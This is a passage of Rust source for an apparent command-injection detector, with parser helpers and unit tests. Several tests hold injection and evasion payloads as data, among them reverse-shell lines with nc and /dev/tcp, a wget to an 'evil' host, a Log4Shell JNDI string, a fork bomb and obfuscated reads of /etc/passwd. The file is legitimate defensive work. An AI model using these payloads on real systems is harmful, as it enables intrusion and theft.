        if b == b'$' && next == Some(b'{') {
            if close.is_none_or(|c| c.is_some_and(|c| c < i)) {
                let reach = bytes
                    .get(i..bytes.len().min(WORD_REACH + 4))
                    .unwrap_or_default();
                close = Some(reach.iter().position(|&c| c == b'}').map(|p| i + p));
            }
            match close {
                Some(Some(c)) => {
                    i = c + 1;
                    continue;
                }
                // An expansion never closed is no part of a command word (a shell refuses it).
                _ => return i,
            }
        }
        // (Glued into a word only: where a word would start, a backtick still ends it, and a
        // run of backticks costs nothing per position.)
        if i > 0 && b == b'`' && next == Some(b'`') {
            i += 2;
            continue;
        }
        if i > 0
            && matches!(b, b'$' | b'<' | b'>')
            && next == Some(b'(')
            && bytes.get(i + 2) == Some(&b')')
        {
            i += 3;
            continue;
        }
        if b.is_ascii_whitespace()
            || matches!(
                b,
                b';' | b'|' | b'&' | b'<' | b'>' | b')' | b'}' | b',' | b'`'
            )
        {
            return i;
        }
        i += 1;
    }
    bytes.len()
}

/// An option where a command's arguments start: `-a`, `-nlvp`, `--file` (`-` alone, `-5`
/// and a dash before a word of prose, `-rated`, are not).
fn is_option(args: &str) -> bool {
    let word = args
        .split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '='))
        .next()
        .unwrap_or_default();
    if let Some(long) = word.strip_prefix("--") {
        return long.starts_with(|c: char| c.is_ascii_alphabetic());
    }
    word.strip_prefix('-').is_some_and(|short| {
        (1..=4).contains(&short.len()) && short.bytes().all(|b| b.is_ascii_alphabetic())
    })
}

/// Whether `name` with `args` after it is a command: a known command, or a word command
/// whose arguments are a shell's.
fn command_with_arguments(name: &str, args: &str, behind_expansion: bool) -> bool {
    if name.is_empty() {
        return false;
    }
    if is_command(name) {
        return true;
    }
    // `alias [-p] [+m] x=…` defines a command to run later.
    if name == "alias" {
        let mut words = args.split_whitespace();
        let first = words.next().unwrap_or_default();
        // (A few options at most: a value of many `-x` words is not read to its end.)
        return first.starts_with("-p")
            || std::iter::once(first)
                .chain(words)
                .take(8)
                .find(|w| !w.starts_with(['-', '+']))
                .is_some_and(|a| a.contains('='));
    }
    // cmd.exe's `cat`, and an instruction word ("type 'yes' here"): only reading a file named
    // by a batch variable or a drive (`type %SystemDrive%\boot.ini`, `type c:\x`).
    if name == "type" {
        let arg = args.trim_start().as_bytes();
        return arg.first() == Some(&b'%')
            || (arg.first().is_some_and(u8::is_ascii_alphabetic)
                && arg.get(1..3) == Some(b":\\".as_slice()));
    }
    if let Some(fits) = windows_command(name, args, false) {
        return fits;
    }
    // cmd.exe drops a `^` before any byte (`n^et us^er`, `who^ami`): a word with one is read
    // without them (its arguments too, as far as they are read).
    if name.contains('^') {
        let name = name.replace('^', "");
        let args = within(args, ARGUMENT_REACH).replace('^', "");
        return is_command(&name) || windows_command(&name, &args, false) == Some(true);
    }
    if name == "cd" {
        return changes_directory(args);
    }
    // `echo` writing a script to run later: `; echo "<?php system($_GET['c']); ?>" > c.php`.
    if name == "echo" && echo_writes_script(args) {
        return true;
    }
    if OPTION_COMMAND_SET.contains(name) {
        return is_option(args.trim_start_matches([' ', '\t']));
    }
    WORD_COMMAND_SET.contains(name) && (behind_expansion || shell_like_arguments(args))
}

/// `cd`'s arguments in a command line: `..`, or a path (`/x`, `~`, `-`, `$HOME`) and then the
/// end of the value or the next command (`cd /;cd etc`, `cd ~ && …`). A disc ("CD /DVD
/// combo", "CD 2", "CD ~ 10 dollars") does not go on with a separator right after a path.
fn changes_directory(args: &str) -> bool {
    let arg = args.trim_start_matches([' ', '\t']);
    let path_end = arg
        .find(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
        .unwrap_or(arg.len());
    let path = arg.get(..path_end).unwrap_or_default();
    let after = arg.get(path_end..).unwrap_or_default();
    let next_command = after.is_empty() || after.starts_with([';', '|', '&', '\n', '\r']);
    matches!(path, ".." | "../") || (path.starts_with(['/', '$', '~', '-']) && next_command)
}

/// `word` as a shell runs it when its variables are unset: quotes and backslashes removed,
/// `${…}` and one-character expansions (`$u`, `$@`, `$*`, `$_`, `$9`, `$$`) dropped, and
/// empty substitutions (two backticks, `$()`, `<()`, `>()`) dropped: `n$u\c$u` is `nc`,
/// `ping$()` is `ping`, `c$*at` is `cat`. (A real shell reads `$uat` as one variable; an
/// evasion puts the `$x` where the next byte ends the name, and the filters it evades drop
/// `$` and one byte, so that reading is the one to undo.) Borrowed when there is nothing to
/// remove, as in most words.
fn shell_word(word: &str) -> Cow<'_, str> {
    if !word.contains(['\'', '"', '\\', '$', '`', '(']) {
        return Cow::Borrowed(word);
    }
    let bytes = word.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let next = bytes.get(i + 1).copied();
        let after = bytes.get(i + 2).copied();
        match b {
            b'\'' | b'"' | b'\\' => i += 1,
            b'`' if next == Some(b'`') => i += 2,
            b'$' | b'<' | b'>' if next == Some(b'(') && after == Some(b')') => i += 3,
            b'$' if next == Some(b'{') => {
                let close = bytes
                    .get(i + 2..)
                    .and_then(|r| r.iter().position(|&c| c == b'}'));
                i = close.map_or(bytes.len(), |c| i + 3 + c);
            }
            b'$' if next.is_some_and(|c| {
                c.is_ascii_alphanumeric()
                    || matches!(c, b'@' | b'*' | b'#' | b'?' | b'-' | b'$' | b'!' | b'_')
            }) =>
            {
                i += 2
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    // Only ASCII bytes were removed, whole: the rest is still UTF-8.
    Cow::Owned(String::from_utf8(out).unwrap_or_default())
}

/// How many expansions `word` is made of, if it is nothing else (`$a`, `${u}`,
/// `$c1$c2$c3`), read as the shell reads names (`$garb` is one variable).
fn only_expansions(word: &str) -> Option<usize> {
    let mut rest = word;
    let mut count = 0;
    while let Some(after) = rest.strip_prefix('$') {
        rest = if let Some(inner) = after.strip_prefix('{') {
            inner.split_once('}')?.1
        } else {
            let name = after.len()
                - after
                    .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
                    .len();
            // A name, not a positional parameter or a price (`$5`).
            if name == 0 || after.starts_with(|c: char| c.is_ascii_digit()) {
                return None;
            }
            after.get(name..)?
        };
        count += 1;
    }
    (rest.is_empty() && count > 0).then_some(count)
}

/// `gcc7.4`, `python3.11`: a command name with a version glued on, without it.
fn without_version(name: &str) -> &str {
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if base.len() < name.len()
        && base.len() >= 2
        && name
            .get(base.len()..)
            .is_some_and(|v| v.starts_with(|c: char| c.is_ascii_digit()))
    {
        base
    } else {
        name
    }
}

/// A contraction or possessive of prose: letters, one apostrophe, and an English ending
/// (`I'd`, `p's`, `we'll`, `they're`, `I've`, `don't`, `I'm`). Without the apostrophe some are
/// command names (`id`, `ps`), but a shell evasion splits a name anywhere (`wh'oami`, `c'a't`),
/// not before these endings only. Prose quotes it (`"I'd`, `(I'm`, `don't,"`): the quotation
/// marks and punctuation around the word are not part of it.
fn is_contraction(word: &str) -> bool {
    let word = word
        .trim_start_matches(['"', '('])
        .trim_end_matches(['"', ',', '.', '!', '?', ';', ':', ')']);
    let Some((stem, ending)) = word.split_once('\'') else {
        return false;
    };
    !stem.is_empty()
        && stem.bytes().all(|b| b.is_ascii_alphabetic())
        && matches!(ending, "d" | "s" | "ll" | "re" | "ve" | "t" | "m")
}

/// `word` without the quotes and backslashes a shell removes (`c'a't` is `cat`); borrowed when
/// it has none, as most words.
fn without_quotes(word: &str) -> Cow<'_, str> {
    if word.contains(['\'', '"', '\\']) {
        Cow::Owned(
            word.chars()
                .filter(|c| !matches!(c, '\'' | '"' | '\\'))
                .collect(),
        )
    } else {
        Cow::Borrowed(word)
    }
}

/// Nothing, or a first argument an English sentence would not have: `-n`, `/etc`, `5`, `$x`,
/// `~`, `.`, a redirection or a separator, a cmd.exe variable (`%SystemDrive%`).
fn shell_like_arguments(after: &str) -> bool {
    let arg = after.trim_start_matches([' ', '\t']);
    match arg.chars().next() {
        None => true,
        Some(c) => {
            c.is_ascii_digit()
                || matches!(
                    c,
                    '-' | '/'
                        | '$'
                        | '~'
                        | '.'
                        | '<'
                        | '>'
                        | ';'
                        | '|'
                        | '&'
                        | '`'
                        | '\''
                        | '"'
                        | '\n'
                        | '\r'
                        | '*'
                        | '{'
                        | '%'
                )
        }
    }
}

/// A whole value that is a command line: a known command, a blank, then an option
/// (`env --version`, `nc -nlvp 555`). A value starting with a command name alone is ordinary
/// input ("cat videos", "curl/8.0").
fn starts_with_command_and_option(text: &str) -> bool {
    let trimmed = text.trim_start().trim_start_matches(['\'', '"']);
    let first = trimmed
        .split([' ', '\t', '\n', '\r', '\'', '"'])
        .next()
        .unwrap_or_default();
    // A command line as a form submits it, ended by a line break (`visudo\n`), a command run
    // through a wrapper (`nohup ifconfig`), or a defined alias.
    // A short line only, and not a tool people write about ("python tutorial\n").
    // Its arguments must look like a command's (an option, a path, a file name): "Axel Smith\n"
    // is a name.
    // (Only worked out for a command: the common case allocates nothing.)
    let line_break = || {
        let args: Vec<&str> = trimmed.split_whitespace().skip(1).collect();
        text.trim_end_matches([' ', '\t']).ends_with('\n')
            && trimmed.lines().count() == 1
            && args.len() <= 3
            && args
                .iter()
                .all(|a| a.starts_with('-') || a.contains(['/', '.', '=']))
            && !TOPIC_SET.contains(first)
    };
    if is_command(first)
        && (line_break()
            || trimmed
                .get(first.len()..)
                .is_some_and(|r| r.starts_with([' ', '\t']) && has_option(r)))
    {
        return true;
    }
    if WRAPPER_SET.contains(first) && names_command(trimmed.get(first.len()..).unwrap_or_default())
    {
        return true;
    }
    if first == "alias" && names_command(trimmed) {
        return true;
    }
    // A Windows command with an argument shaped like its own (`ipconfig /all`,
    // `net user x y /add`, `dir c:\users`, `type c:\x`), an `echo` into a script.
    let args = trimmed.get(first.len()..).unwrap_or_default();
    if (WINDOWS_COMMAND_SET.contains(first) && windows_arguments(args, false))
        || windows_command(first, args, true) == Some(true)
        || (first == "type" && windows_shaped(args.trim_start_matches([' ', '\t']).as_bytes()))
        || (first == "echo" && echo_writes_script(args))
    {
        return true;
    }
    // `${SHELL} -c "…"`, `$a -nlvp 555`: a program named by a variable, run with an option.
    if only_expansions(first).is_some()
        && trimmed
            .get(first.len()..)
            .is_some_and(|r| r.starts_with([' ', '\t']) && is_option(r.trim_start()))
    {
        return true;
    }
    let Some((word, rest)) = trimmed.split_once([' ', '\t']) else {
        return false;
    };
    // `"ll" /var/www/`, `uname$u -a`: the word as the shell runs it.
    let word = shell_word(word);
    let word = word.as_ref();
    let rest = rest.trim_start();
    // `cd /;cd etc;…`: a directory change that a command follows.
    if word == "cd" && changes_directory(rest) {
        return true;
    }
    let option = rest.starts_with('-')
        && rest
            .chars()
            .nth(1)
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '-');
    // `cat /etc/pa[s]swd`: a command with an absolute path.
    let path = rest.starts_with('/')
        && rest
            .chars()
            .nth(1)
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[');
    (option || path) && (COMMAND_SET.contains(word) || WORD_COMMAND_SET.contains(word))
}

/// A shell function that calls itself twice through a pipe and the background, `f(){ f|f& };f`
/// (the fork bomb, whatever the function is named), or a Shellshock function definition
/// `() { …` at the start of a value.
fn has_fork_bomb(squeezed: &str) -> bool {
    if squeezed.trim_start().starts_with("() {") || squeezed.trim_start().starts_with("(){") {
        return true;
    }
    ["(){", "() {"].iter().any(|open| {
        squeezed.match_indices(open).any(|(i, _)| {
            let before = squeezed.get(..i).unwrap_or_default();
            let name_start = before
                .rfind(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '&' | '|'))
                .map_or(0, |p| p + 1);
            let name = before.get(name_start..).unwrap_or_default();
            let body = squeezed
                .get(i + open.len()..)
                .unwrap_or_default()
                .trim_start();
            !name.is_empty()
                && body
                    .strip_prefix(name)
                    .map(|r| r.trim_start_matches("()").trim_start())
                    .is_some_and(|r| r.starts_with('|'))
        })
    })
}

/// An option (`-m`, `--url`) somewhere on the first line.
fn has_option(rest: &str) -> bool {
    let line = rest.split('\n').next().unwrap_or_default();
    line.split([' ', '\t']).any(|w| {
        let w = w.strip_prefix("--").or_else(|| w.strip_prefix('-'));
        w.is_some_and(|o| o.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
    })
}

/// `$(…)` or a backtick pair with something inside.
fn has_substitution(text: &str) -> bool {
    // Process substitution: `<(cmd)`, `>(cmd)`.
    // Both read up to a `)`: the inside is read only while it may still be a command line,
    // and whether a `)` follows is known once, so a value of many `<(` or `$(` and no `)` is
    // not read again from each.
    let process = ["<(", ">("].iter().any(|p| {
        text.match_indices(p).any(|(i, _)| {
            let inside = text.as_bytes().get(i + 2..).unwrap_or_default();
            let words = inside
                .iter()
                .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b' ' | b'-' | b'/'))
                .count();
            words > 0 && inside.get(words) == Some(&b')')
        })
    });
    let last_close = text.rfind(')');
    let dollar = text.match_indices("$(").any(|(i, _)| {
        last_close.is_some_and(|c| c >= i + 2)
            && names_command(text.get(i + 2..).unwrap_or_default())
    });
    let backticks =
        text.matches('`').count() >= 2 && text.split('`').nth(1).is_some_and(names_command);
    process || dollar || backticks
}

/// `$IFS`, `${IFS}`, brace expansion with a comma (`{cat,/etc/passwd}`), `$@`/`$9` splitting a
/// command word (`ca$@t`), and a known command spelled with quotes or backslashes.
fn has_shell_evasion(text: &str, prechecks: bool) -> bool {
    if has_path_glob(text) {
        return true;
    }
    // Precheck: a wildcard path holds a `?` (most values have none).
    if (!prechecks || text.contains('?')) && has_wildcard_path(text) {
        return true;
    }
    // Precheck: each literal below starts with `$` (most values have none; six substring
    // searches saved).
    if (!prechecks || text.contains('$'))
        && (text.contains("$((")
            || text.contains("$[")
            || text.contains("$ifs")
            || text.contains("${ifs")
            || text.contains("$'\\x")
            || text.contains("${jndi:")
            // `${:-j}`, `${::-x}`: an expansion without a name, only a default (Log4Shell
            // lookups spelled so a filter looking for `jndi` misses them; a shell refuses it).
            || text.contains("${:"))
    {
        return true;
    }
    if brace_expands_to_command(text) {
        return true;
    }
    // A command word glued together from pieces: c'a't, c\at, ca$@t, w"h"oami, n$u\c$u,
    // uname${x}, ping``, pi<()ng.
    text.split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
        .any(|word| {
            let obfuscated = word.contains(['\'', '"', '\\', '$', '`']) || word.contains("()");
            // (Most words are not: they are not copied.)
            if !obfuscated || is_contraction(word) {
                return false;
            }
            let cleaned = shell_word(word);
            let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
            cleaned != word
                && name.len() > 1
                && (COMMAND_SET.contains(name) || WORD_COMMAND_SET.contains(name))
        })
}

/// How far after a `{` its `}` is looked for.
const BRACE_REACH: usize = 256;

/// How much of a command word is read.
const WORD_REACH: usize = 64;

/// A brace expansion that makes a command line: `{cat,/etc/passwd}`, `{,cd,/etc,}`,
/// `{n$u\c$u,-nlvp,777}` (the words between commas, empty ones dropped), or that spells a
/// command inside a word: `c{a,oun}t` is `cat count`.
fn brace_expands_to_command(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut opens = text.match_indices('{').map(|(i, _)| i).peekable();
    // The next `}` at or after the `{` at hand (`Some(None)`: none to the end), found by one
    // forward search per `}`, not one per `{`.
    let mut close: Option<Option<usize>> = None;
    while let Some(i) = opens.next() {
        if close.is_none_or(|c| c.is_some_and(|c| c < i)) {
            close = Some(
                bytes
                    .get(i..)
                    .and_then(|r| r.iter().position(|&c| c == b'}'))
                    .map(|p| i + p),
            );
        }
        let Some(Some(end)) = close else {
            return false;
        };
        // Only the innermost braces, and short ones (a brace expansion is), are read: the
        // pieces read do not overlap, and a value of many `{` stays linear.
        if end - i > BRACE_REACH || opens.peek().is_some_and(|&next| next < end) {
            continue;
        }
        let inner = text.get(i + 1..end).unwrap_or_default();
        if expands_to_command(text, i, inner) {
            return true;
        }
    }
    false
}

/// [`brace_expands_to_command`] for the braces at `i` holding `inner`.
fn expands_to_command(text: &str, i: usize, inner: &str) -> bool {
    {
        if !inner.contains(',') {
            return false;
        }
        let words: Vec<&str> = inner.split(',').filter(|w| !w.is_empty()).collect();
        if names_command(&words.join(" ")) {
            return true;
        }
        // The word the braces are glued into: its letters right before and after them (a
        // command name is short; no more than 32 bytes either side are read).
        let is_word = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
        let bytes = text.as_bytes();
        let prefix_len = bytes
            .get(..i)
            .unwrap_or_default()
            .iter()
            .rev()
            .take(32)
            .take_while(|b| is_word(b))
            .count();
        let prefix = text.get(i - prefix_len..i).unwrap_or_default();
        let after_at = i + inner.len() + 2;
        let suffix_len = bytes
            .get(after_at..)
            .unwrap_or_default()
            .iter()
            .take(32)
            .take_while(|b| is_word(b))
            .count();
        let suffix = text
            .get(after_at..after_at + suffix_len)
            .unwrap_or_default();
        (!prefix.is_empty() || !suffix.is_empty())
            && inner.split(',').any(|alt| {
                let word = format!("{prefix}{alt}{suffix}");
                COMMAND_SET.contains(&word) || WORD_COMMAND_SET.contains(&word)
            })
    }
}

/// An absolute path spelled with `?` wildcards the shell expands (`/???/c?t /???/p??s??`,
/// `/e??/p*sswd`): two or more of its segments hold a wildcard, one a `?` (a build glob,
/// `/**/*.js`, has none), and it holds nothing but
/// letters, digits, `._-` and wildcards (a URL's query, `/search?q=1`, has `=`; an ordinary
/// path has no `?` inside its segments).
fn has_wildcard_path(text: &str) -> bool {
    text.match_indices('/').any(|(i, _)| {
        let starts_word = text
            .get(..i)
            .and_then(|b| b.chars().last())
            .is_none_or(|c| {
                c.is_ascii_whitespace()
                    || matches!(c, ';' | '|' | '&' | '=' | '\'' | '"' | '`' | '(')
            });
        if !starts_word {
            return false;
        }
        // (A path is short: at most 128 bytes of it are read.)
        let rest = text.get(i..).unwrap_or_default();
        let end = rest
            .bytes()
            .take(128)
            .position(|b| {
                !(b.is_ascii_alphanumeric() || matches!(b, b'/' | b'?' | b'*' | b'.' | b'_' | b'-'))
            })
            .unwrap_or(rest.len().min(128));
        let path = rest.get(..end).unwrap_or_default();
        let ends_word = rest
            .get(end..)
            .and_then(|r| r.chars().next())
            .is_none_or(|c| {
                c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | '`' | ')')
            });
        ends_word
            && path.contains('?')
            && path
                .split('/')
                .filter(|segment| segment.contains(['?', '*']))
                .count()
                >= 2
    })
}

/// A bracket glob inside an absolute path (`/etc/[p]asswd`, `/usr/[a-z]in/bash`,
/// `/bi[n]/sh`): the shell expands it to a file name a filter looking for the name misses.
fn has_path_glob(text: &str) -> bool {
    // One pass: whether the bytes since the last `/` are all alphanumeric (a segment's start
    // before the `[`), so a `[` looks neither back nor far ahead.
    let bytes = text.as_bytes();
    let mut segment_is_word = false;
    for (i, &b) in bytes.iter().enumerate() {
        match b {
            b'/' => segment_is_word = true,
            b'[' => {
                if segment_is_word && glob_class_goes_on(bytes, i) {
                    return true;
                }
                segment_is_word = false;
            }
            _ if !b.is_ascii_alphanumeric() => segment_is_word = false,
            _ => {}
        }
    }
    false
}

/// At the `[` at `open`: a class of one to eight lowercase letters and `-` (maybe negated by
/// `!` or `^`), closed by `]`, and the path going on after it: `[p]asswd`, `[a-z]in/`, not
/// `[abc]` at a path's end.
fn glob_class_goes_on(bytes: &[u8], open: usize) -> bool {
    let body_start = open
        + 1
        + bytes
            .get(open + 1..)
            .unwrap_or_default()
            .iter()
            .take_while(|&&b| matches!(b, b'!' | b'^'))
            .count();
    let body = bytes
        .get(body_start..)
        .unwrap_or_default()
        .iter()
        .take(9)
        .take_while(|&&b| b.is_ascii_lowercase() || b == b'-')
        .count();
    let close = body_start + body;
    (1..=8).contains(&body)
        && bytes.get(close) == Some(&b']')
        && bytes
            .get(close + 1)
            .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'/')
}

/// cmd.exe's `for`: `for [/d|/r|/l|/f] %x in (…) do …`.
fn has_windows_for(squeezed: &str) -> bool {
    squeezed.match_indices("for ").any(|(i, _)| {
        let rest = squeezed.get(i..).unwrap_or_default();
        rest.contains('%')
            && rest.contains(" in (")
            && (rest.contains(" do ") || rest.contains(")do "))
    })
}

/// cmd.exe's `if` with a batch variable or test: `if %a% gtr %b%`, `if "%1"==""`,
/// `if not defined x`.
fn has_windows_if_test(squeezed: &str) -> bool {
    squeezed.match_indices("if ").any(|(i, _)| {
        let starts_word = i == 0
            || squeezed
                .get(..i)
                .is_some_and(|b| b.ends_with([' ', '(', '&', '|', '"']));
        let rest = squeezed.get(i + 3..).unwrap_or_default();
        // `%x%`, `%~1`, `!x!`, or a positional parameter (`%1`, `%*`) not after a number.
        let positional = rest.match_indices('%').any(|(p, _)| {
            rest.get(p + 1..)
                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit() || c == '*'))
                && !rest
                    .get(..p)
                    .is_some_and(|b| b.ends_with(|c: char| c.is_ascii_digit()))
        });
        let batch_var = rest.contains('%') && rest.matches('%').count() >= 2
            || positional
            || rest.contains("%~")
            || rest.matches('!').count() >= 2;
        // `if "a"=="b" echo`, `if not (2 equ 2) echo`, `if cmdextversion 1 goto x`.
        let rest_cmp = rest.trim_start_matches("not ").trim_start_matches("/i ");
        let compare = rest_cmp.split("&&").next().is_some_and(|clause| {
            clause.contains("==")
                || [" equ ", " neq ", " lss ", " leq ", " gtr ", " geq "]
                    .iter()
                    .any(|op| clause.contains(op))
        }) && [
            " echo", " goto", " cd", " set", " call", " exit", " del", " (",
        ]
        .iter()
        .any(|cmd| rest_cmp.contains(cmd));
        starts_word
            && (batch_var
                || compare
                || rest.starts_with("cmdextversion")
                || rest.starts_with("not defined")
                || rest.starts_with("defined "))
    })
}

/// `if /i`, `if not exist`, `if defined`: cmd.exe's `if` forms.
fn has_windows_if(squeezed: &str) -> bool {
    [
        "if /i ",
        "if/i ",
        "if not exist",
        "if exist ",
        "if defined ",
        "if errorlevel",
    ]
    .iter()
    .any(|p| squeezed.contains(p))
}

fn squeeze_spaces(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut last_space = false;
    for c in text.chars() {
        let space = c.is_ascii_whitespace();
        if !(space && last_space) {
            out.push(if space { ' ' } else { c });
        }
        last_space = space;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::decode_fully;

    /// The rules found in `v` after decoding (also for [`super::cmd`]'s tests).
    pub(super) fn ids(v: &str) -> Vec<&'static str> {
        detect(&decode_fully(v.as_bytes(), true, true))
            .into_iter()
            .map(|r| r.id)
            .collect()
    }

    /// The readers that skip the positions inside an earlier one's lead, and read `<(`, `$(`
    /// and `[` without looking back or to the end: the same findings behind long runs of
    /// separators, line breaks, substitutions and brackets as without them (`pavise-fuzz
    /// --growth` checks that they cost linear time).
    #[test]
    fn long_runs_before_a_command_change_nothing() {
        for run in [
            ";", "&&", "||", "\n", ";\n", " ; ", "{", "<(", "$(", "![", "[",
        ] {
            let pad = run.repeat(300);
            for (v, rule) in [
                ("; cat /etc/passwd", "rce-001"),
                ("&& id", "rce-001"),
                ("x=<(cmd)", "rce-002"),
                ("$(whoami)", "rce-002"),
                (";\n.shell id", "rce-001"),
                ("; ls /etc/[p]asswd", "rce-003"),
            ] {
                let v = format!("{pad}{v}");
                assert!(
                    ids(&v).contains(&rule),
                    "{run:?} x 300, then {v:?}: {:?}",
                    ids(&v)
                );
            }
            assert!(ids(&pad).iter().all(|id| *id != "rce-002"), "{run:?}");
        }
        assert!(ids(&format!("{}\n.tables", ";\n".repeat(300))).contains(&"rce-001"));
        assert!(!ids("/etc/[abc]").contains(&"rce-003"));
        assert!(!ids(&format!("/x{}", "[p]".repeat(100))).contains(&"rce-003"));
    }

    #[test]
    fn prechecks_at_their_edge() {
        // Each invocation by its option piece (blank runs and case squeezed away), `/dev/tcp/`,
        // a fork bomb and a Shellshock definition by `()`, the `$` literals of the evasions:
        // found with the prechecks and without, the same rules.
        for (v, rule) in [
            ("x; SH \t -C id", "rce-004"),
            ("python   -c 'import os'", "rce-004"),
            ("a php -r phpinfo();", "rce-004"),
            ("ncat -e /bin/sh 10.0.0.1", "rce-004"),
            ("exec 3<>/dev/tcp/10.0.0.1/80", "rce-004"),
            (":(){ :|:& };:", "rce-004"),
            ("() { :;}; echo x", "rce-004"),
            ("x=$((1+1))", "rce-003"),
            ("a$[1]b", "rce-003"),
            ("cat$IFS/etc/passwd", "rce-003"),
            ("${jndi:ldap://x/a}", "rce-003"),
            ("$'\\x63at' /etc/passwd", "rce-003"),
        ] {
            let decoded = v.as_bytes();
            let with: Vec<_> = detect_with(&Lowered::new(decoded), 1, true)
                .iter()
                .map(|r| r.id)
                .collect();
            let without: Vec<_> = detect_with(&Lowered::new(decoded), 1, false)
                .iter()
                .map(|r| r.id)
                .collect();
            assert!(with.contains(&rule), "{v}: {with:?}");
            assert_eq!(with, without, "{v}");
        }
        // A `-` without an option letter, `(` without `)`, no `$`: nothing either way.
        for v in [
            "Item 12 (2-pack)",
            "kitchen/dining-room",
            "pay 20 (cash)",
            "it's (fine)",
        ] {
            assert!(
                detect_with(&Lowered::new(v.as_bytes()), 1, true).is_empty(),
                "{v}"
            );
            assert!(
                detect_with(&Lowered::new(v.as_bytes()), 1, false).is_empty(),
                "{v}"
            );
        }
    }

    #[test]
    fn contractions_are_prose_not_quoted_command_names() {
        for v in [
            "I'd love to!",
            "Sounds good; I'd love to come",
            "Yes & I'd say so",
            "Mind your p's and q's",
            "ok | I'll id it later",
            "\"I'd love to go out with you, but I have to stay home\"",
            "JHM wonders what Joey did to earn \"I'd just like to say\"",
            "(I'm sure) he said \"don't,\" and left",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
        for (v, id) in [
            ("x;wh'oami", "rce-001"),
            ("x; i'd'", "rce-001"),
            ("c'a't /etc/passwd", "rce-003"),
            ("wh'oami'", "rce-003"),
            ("p's'", "rce-003"),
            ("\"wh'oami\"", "rce-003"),
            ("x; \"c'a't\" /etc/passwd", "rce-003"),
        ] {
            assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn chained_commands() {
        for v in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x && whoami",
            "x%0Auname+-a",
            "a;/bin/cat /etc/shadow",
            "a; c'a't /etc/passwd",
            "a;w\\hoami",
            "foo||wget http://evil/x",
            "x; lsblk",
            "x && sqlmap -u http://t/?id=1",
            "a|journalctl -xe",
        ] {
            assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn substitution_evasion_invocation_windows() {
        assert!(ids("$(whoami)").contains(&"rce-002"));
        assert!(ids("`id`").contains(&"rce-002"));
        assert!(ids("cat${IFS}/etc/passwd").contains(&"rce-003"));
        assert!(ids("{cat,/etc/passwd}").contains(&"rce-003"));
        assert!(ids("ca$@t /etc/passwd").contains(&"rce-003"));
        assert!(ids("bash -c 'id'").contains(&"rce-004"));
        assert!(ids("x; nc -e /bin/sh 1.2.3.4 4444").contains(&"rce-004"));
        assert!(ids("exec 5<>/dev/tcp/1.2.3.4/80").contains(&"rce-004"));
        assert!(ids("cmd.exe /c dir").contains(&"rce-005"));
        assert!(ids("powershell -enc AAAA").contains(&"rce-005"));
        assert!(ids("IF /I \"%var%\"==\"x\" ( ECHO found )").contains(&"rce-005"));
        assert!(ids("FOR /D %a IN (dirs) DO abc").contains(&"rce-005"));
        assert!(ids("if %n1% gtr %n2% echo bigger").contains(&"rce-005"));
        assert!(ids("IF NOT DEFINED BAR (").contains(&"rce-005"));
        assert!(ids(";iwr http://example.com/x.ps1").contains(&"rce-005"));
        assert!(ids("cat /etc/pa[s]swd").contains(&"rce-001"));
        assert!(ids("if you want, 100% of it").is_empty());
        assert!(ids("x=<(cmd)").contains(&"rce-002"));
        assert!(ids("${jndi:ldap://evil.com/x}").contains(&"rce-003"));
    }

    #[test]
    fn a_whole_command_line() {
        assert!(ids("env --version").contains(&"rce-001"));
        assert!(ids("perf --version").contains(&"rce-001"));
        assert!(ids(";flock -u / whoami").contains(&"rce-001"));
        assert!(ids("cat videos").is_empty());
        assert!(ids("curl/8.0.1").is_empty());
        assert!(ids("sleep - the best medicine").is_empty());
    }

    #[test]
    fn command_lines_globs_and_windows_tests() {
        for (v, id) in [
            ("visudo\n", "rce-001"),
            ("ansible-playbook site.yml -i hosts", "rce-001"),
            ("chef-client -t 1.1.1.1", "rce-001"),
            ("nohup ifconfig", "rce-001"),
            ("time; ansible-console", "rce-001"),
            ("alias ls-al='ls -al'", "rce-001"),
            ("'visudo'\n", "rce-001"),
            ("pip3 install -r x.txt\n", "rce-001"),
            ("/etc/[p]asswd", "rce-003"),
            ("/usr/[a-z]in/bash", "rce-003"),
            ("/etc/[!abc]asswd", "rce-003"),
            ("$((1+2))", "rce-003"),
            ("f(){ f|f& };f", "rce-004"),
            (":(){ :|:& };:", "rce-004"),
            ("() { :;}; echo vulnerable", "rce-004"),
            ("IF \"2\" GEQ \"15\" echo \"bigger\"", "rce-005"),
            ("if not (2 equ 2) echo hey", "rce-005"),
            ("IF CMDEXTVERSION 1 GOTO start", "rce-005"),
            ("& FOR %~ IN (a,b,c)DO cmd", "rce-005"),
            ("IF \"%1\"==\"/?\" goto help", "rce-005"),
            ("IF [%1]==[/?] ...", "rce-005"),
            ("\" | type %SystemDrive%\\config.ini | \"", "rce-001"),
            ("x & type c:\\boot.ini", "rce-001"),
        ] {
            assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
        }
        for v in [
            "ansible is a tool",
            "time flies like an arrow",
            "the alias of the user",
            "items[0]",
            "/list/[abc]",
            "function f(){ return a||b };",
            "if a == b then we are done",
            "python tutorial\n",
            "docker for beginners\n",
